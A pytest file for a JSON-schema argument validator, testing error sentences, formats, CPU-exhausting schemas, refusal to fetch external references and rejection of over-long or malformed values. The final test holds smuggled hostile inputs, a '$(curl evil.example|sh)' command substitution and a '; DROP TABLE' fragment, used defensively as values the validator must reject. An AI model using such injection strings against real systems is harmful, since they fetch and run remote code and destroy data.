"""Arguments and schemas: the sentences of errors. No schema takes much work or fetches anything."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from hitl_core.forms import make_form
from hitl_core.jsonschema import ArgError, SchemaError, check_args, check_schema
from tests.support.cpu_time import cpu_limit


@pytest.mark.parametrize(
    ("schema", "value", "message"),
    [
        ({"type": "string"}, 1, "must be text"),
        ({"type": "integer"}, 1.5, "must be a whole number"),
        ({"type": ["number", "null"]}, "x", "must be a number or null"),
        ({"type": "integer"}, True, "must be a whole number"),
        ({"maximum": 500}, 501, "must be at most 500"),
        ({"minimum": 1}, 0, "must be at least 1"),
        ({"exclusiveMaximum": 10}, 10, "must be less than 10"),
        ({"exclusiveMinimum": 0}, 0, "must be more than 0"),
        ({"multipleOf": 5}, 7, "must be a multiple of 5"),
        ({"maxLength": 40}, "x" * 41, "must be at most 40 characters"),
        ({"minLength": 1}, "", "must be at least 1 character"),
        ({"minItems": 2}, [1], "must have at least 2 items"),
        ({"enum": ["a", "b", None]}, "c", "must be one of: a, b, null"),
        ({"const": 3}, 4, "must be 3"),
        ({"pattern": "^x"}, "y", "must match the pattern ^x"),
        ({"format": "email"}, "nobody", "is not a valid e-mail address"),
        ({"format": "date"}, "2024-02-30", "is not a valid date (YYYY-MM-DD)"),
        ({"not": {"const": 1}}, 1, "is not allowed"),
        (False, 1, "is not allowed here"),
        ({"anyOf": [{"type": "integer", "maximum": 5}, {"type": "null"}]}, 9, "must be at most 5"),
        ({"anyOf": [{"type": "integer"}, {"type": "null"}]}, "x", "must be a whole number or null"),
        ({"oneOf": [{"const": "a"}, {"const": "b"}]}, "c", "must be one of: a, b"),
        (
            {"oneOf": [{"type": "integer"}, {"minimum": 1}]},
            2,
            "matches more than one of the allowed forms",
        ),
    ],
)
def test_each_rule_has_its_sentence(schema: Any, value: Any, message: str) -> None:
    assert check_args({"properties": {"x": schema}}, {"x": value}) == [ArgError("/x", message)]


@pytest.mark.parametrize(
    ("name", "good", "bad"),
    [
        ("email", "a.b+c@example.org", "a@b@c"),
        ("uri", "https://example.org/a?b=c#d", "no scheme"),
        ("date", "2024-02-29", "2023-02-29"),
        ("time", "23:59:59Z", "25:00:00Z"),
        ("date-time", "2024-02-29T12:00:00+02:00", "2024-02-29 12:00"),
        ("uuid", "123e4567-e89b-12d3-a456-426614174000", "123e4567"),
        ("ipv4", "127.0.0.1", "256.0.0.1"),
        ("ipv6", "::1", "127.0.0.1"),
    ],
)
def test_formats_are_checked(name: str, good: str, bad: str) -> None:
    schema = {"properties": {"x": {"format": name}}}
    assert check_args(schema, {"x": good}) == []
    assert len(check_args(schema, {"x": bad})) == 1


def test_missing_and_unwanted_arguments_are_named_one_by_one() -> None:
    schema = {"properties": {"a": {}}, "required": ["a", "b"], "additionalProperties": False}
    assert check_args(schema, {"c/d": 1}) == [
        ArgError("/a", "is required"),
        ArgError("/b", "is required"),
        ArgError("/c~1d", "is not allowed here"),
    ]


def test_multiples_are_exact() -> None:
    schema = {"properties": {"x": {"multipleOf": 0.1}}}
    assert check_args(schema, {"x": 0.3}) == []
    assert check_args(schema, {"x": 0.35}) != []


def test_equal_items_are_those_that_json_schema_calls_equal() -> None:
    schema = {"properties": {"x": {"uniqueItems": True}}}
    assert check_args(schema, {"x": [1, True, "1", [1], {"a": 1}]}) == []
    assert check_args(schema, {"x": [{"a": 1}, {"a": 1.0}]}) == [
        ArgError("/x/1", "is the same as number 1")
    ]


def test_the_draft_is_the_one_that_the_schema_names() -> None:
    tuple_of_draft_7 = {"properties": {"x": {"items": [{"type": "integer"}]}}}
    draft_7 = {"$schema": "http://json-schema.org/draft-07/schema#", **tuple_of_draft_7}
    assert check_args(draft_7, {"x": ["a"]}) == [ArgError("/x/0", "must be a whole number")]
    with pytest.raises(SchemaError, match=r"not valid at properties\.x\.items"):
        check_schema(tuple_of_draft_7)
    with pytest.raises(SchemaError, match="not a known draft"):
        check_schema({"$schema": "https://example.org/my-draft"})


@pytest.mark.parametrize(
    ("schema", "sentence"),
    [
        ({"type": "objct"}, "not valid at type"),
        ({"properties": {"a": {"minimum": "1"}}}, r"not valid at properties\.a\.minimum"),
        ({"$ref": "#/$defs/nowhere"}, "does not exist"),
        ({"description": "x" * 65_536}, "the limit is 65,536"),
        ({"properties": {str(n): {} for n in range(5_000)}}, "too large or too complex"),
        (
            {"allOf": [{"$schema": "https://json-schema.org/draft/2020-12/schema"}]},
            "only at the top",
        ),
        ({"default": {1, 2}}, "not plain JSON"),
        (json.loads('{"not":' * 400 + "{}" + "}" * 400), "nested deeper"),
    ],
)
def test_a_bad_schema_is_one_sentence(schema: Any, sentence: str) -> None:
    with pytest.raises(SchemaError, match=sentence):
        check_schema(schema)


def _doubling(keyword: str) -> dict[str, Any]:
    levels = {f"d{n}": {keyword: [{"$ref": f"#/$defs/d{n - 1}"}] * 2} for n in range(1, 20)}
    return {"$defs": {"d0": {"type": "string"}, **levels}, "$ref": "#/$defs/d19"}


BLOWUPS: list[tuple[dict[str, Any], dict[str, Any]]] = [
    (_doubling("anyOf"), {}),
    (_doubling("allOf"), {"a": 1}),
    ({"$ref": "#"}, {}),
    ({"unevaluatedProperties": False, "$ref": "#"}, {"a": 1}),
    ({"properties": {"a": {"items": {"multipleOf": 1}}}}, {"a": [1] * 100_000}),
    ({"anyOf": [False] * 900}, {"a": [1] * 60_000}),
    ({"$defs": {"f": False}, "oneOf": [{"$ref": "#/$defs/f"}] * 900}, {"a": [1] * 60_000}),
    ({"properties": {"a": {"multipleOf": 7}}}, {"a": 10**5_000}),
    (
        {"patternProperties": {f"^.*{n}.*x$": {} for n in range(100)}},
        {"a" * 400 + str(n): 1 for n in range(600)},
    ),
]  # fmt: skip


@pytest.mark.parametrize(("schema", "args"), BLOWUPS)
def test_no_schema_makes_much_work(schema: dict[str, Any], args: dict[str, Any]) -> None:
    """T63: Without the budget these take from seconds to endless; with it, about a tenth of one."""
    with cpu_limit(1):
        errors = check_args(schema, args)
    assert [error.pointer for error in errors] == [""]


def test_the_sentence_about_alternatives_names_what_is_wrong_in_the_one_that_is_meant() -> None:
    card = {"properties": {"kind": {"const": "card"}, "n": {"minLength": 3}}, "required": ["n"]}
    bank = {"properties": {"kind": {"enum": ["bank"]}}, "required": ["iban"]}
    schema = {"properties": {"pay": {"oneOf": [card, bank]}}}
    assert check_args(schema, {"pay": {"kind": "bank"}}) == [ArgError("/pay/iban", "is required")]
    wrong = check_args(schema, {"pay": {"kind": "card", "n": "x"}})
    assert wrong == [ArgError("/pay/n", "must be at least 3 characters")]


def test_unique_items_over_thousands_of_objects_are_checked() -> None:
    schema = {"properties": {"a": {"uniqueItems": True}}}
    assert check_args(schema, {"a": [{"x": {"y": n}} for n in range(3_000)]}) == []


@pytest.fixture
def canary() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"{}")

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,)).start()
        yield f"http://127.0.0.1:{server.server_port}/schema.json", hits
        server.shutdown()


def test_a_reference_outside_the_schema_is_refused_and_never_fetched(
    canary: tuple[str, list[str]], tmp_path: Path
) -> None:
    """T64."""
    url, hits = canary
    (tmp_path / "schema.json").write_text("{}")
    for ref in (url, (tmp_path / "schema.json").as_uri(), "other.json"):
        for schema in (
            {"$ref": ref},
            {"properties": {"a": {"$dynamicRef": ref}}},
            {"$defs": {"a": {"items": {"$ref": ref}}}},
        ):
            for use in (check_args, make_form):
                with pytest.raises(SchemaError, match="is not fetched"):
                    use(schema, {"a": 1})
    hidden = {"default": {"$ref": url}, "$ref": "#/default"}
    with pytest.raises(SchemaError):
        check_args(hidden, {"a": 1})
    assert hits == []


LONG = 11_000 * "a"
URI: dict[str, Any] = {"format": "uri"}


@pytest.mark.parametrize(
    "schema",
    [
        {"not": URI},
        {"not": {"not": {"not": URI}}},
        {"if": URI, "then": {"pattern": "^https://good"}},
        {"oneOf": [URI, {"type": "string"}]},
        {"anyOf": [{"not": URI}, {"type": "null"}]},
        {"$ref": "#/$defs/no", "$defs": {"no": {"not": URI}}},
    ],
)
def test_a_text_too_long_to_be_checked_is_never_a_yes(schema: dict[str, Any]) -> None:
    """Given a schema under which a wrong format would be right, when the text is too long for its
    format, then it is refused, as the short one is."""
    defs = {"$defs": schema.pop("$defs")} if "$defs" in schema else {}
    schema = {"type": "object", "properties": {"to": schema}, **defs}
    assert check_args(schema, {"to": "https://evil.example/a"})
    (error,) = check_args(schema, {"to": "https://evil.example/" + LONG})
    assert "is too long (11,021 characters) to be checked" in error.message


def test_a_text_too_long_to_be_checked_counts_for_no_list_that_must_not_hold_it() -> None:
    schema = {"properties": {"to": {"contains": URI, "minContains": 0, "maxContains": 0}}}
    assert check_args(schema, {"to": ["https://evil.example/" + LONG]})


def test_a_format_alone_is_told_beside_its_field() -> None:
    (error,) = check_args({"properties": {"to": URI}}, {"to": LONG})
    assert (error.pointer, error.message) == (
        "/to",
        "is too long (11,000 characters) to be checked",
    )


@pytest.mark.parametrize(
    "zone", ["::1%$(curl evil.example|sh)", "fe80::1%eth0", "fe80::1%", "fe80::1%\n; DROP TABLE x"]
)
def test_an_address_with_a_zone_is_no_ipv6(zone: str) -> None:
    """The part after `%` could be anything. RFC 4291 has no zones."""
    schema = {"properties": {"to": {"format": "ipv6"}}}
    assert check_args(schema, {"to": zone})
    assert check_args(schema, {"to": "fe80::1"}) == []
